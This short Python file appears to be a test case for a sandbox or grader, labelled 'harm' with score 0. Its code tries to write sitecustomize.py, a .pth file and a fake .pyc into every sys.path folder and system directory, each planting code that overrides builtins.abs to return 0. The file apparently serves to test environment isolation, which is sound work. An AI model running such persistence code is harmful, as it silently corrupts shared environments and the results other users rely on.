# /// case
# title = "Code left in the environment and in bytecode caches"
# kind = "harm"
# score = 0
# ///

# %% extra first
import pathlib
import sys
import numpy

for folder in [*sys.path, pathlib.Path(numpy.__file__).parent, sys.prefix, "/opt/triptych", "/usr/lib/python3"]:
    for name in ("sitecustomize.py", "evil.pth", "__pycache__/evil.pyc"):
        try:
            pathlib.Path(folder, name).write_text("import builtins; builtins.abs = lambda x: 0\n")
            print("wrote", folder)
        except OSError:
            pass
